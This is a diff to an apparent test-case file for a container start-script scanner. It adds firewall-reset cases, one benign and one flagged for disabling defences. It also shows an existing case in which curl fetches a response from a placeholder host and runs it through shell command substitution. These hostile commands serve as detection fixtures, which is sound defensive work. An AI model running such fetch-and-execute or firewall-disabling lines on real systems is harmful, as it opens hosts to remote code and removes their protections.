@@ -59,6 +59,10 @@ export const REAL_TWINS: readonly ImageCase[] = [
     ),
   },
   {
+    name: 'a firewall that is set up anew',
+    spec: starts('if [ "$FRESH" = true ]; then\n  ufw disable\n  : > /etc/ufw/user.rules\nfi\nufw enable\nexec transmission'),
+  },
+  {
     name: 'a shrunk library that reads a value written as code',
     spec: image({ 'var/www/html/player.js': SHRUNK }, { Cmd: ['nginx', '-g', 'daemon off;'] }),
   },
@@ -85,6 +89,11 @@ export const REAL: readonly ImageCase[] = [
     name: 'a first answer thrown away and a second one run',
     rule: 'start/download-and-run',
     spec: starts('$(curl -s -o /dev/null http://192.0.2.7/ping http://192.0.2.7/do)\nexec nginx'),
+  },
+  {
+    name: 'a firewall that is switched on and then off',
+    rule: 'start/disables-defences',
+    spec: starts('ufw --force enable\nufw disable\nexec transmission'),
   },
   {
     name: 'a Docker daemon whose ENV asks for none',
